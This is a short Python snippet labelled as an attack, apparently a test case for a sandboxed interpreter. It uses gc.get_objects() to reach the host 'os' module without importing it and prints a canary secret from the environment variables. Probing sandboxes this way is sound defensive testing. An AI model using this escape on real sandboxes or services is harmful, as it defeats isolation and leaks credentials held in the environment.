# attack: gc.get_objects() to find a host module among live objects
import gc
for o in gc.get_objects():
    if type(o).__name__ == "module" and o.__name__ == "os":
        print(o.environ["MONTY_CANARY_SECRET"])
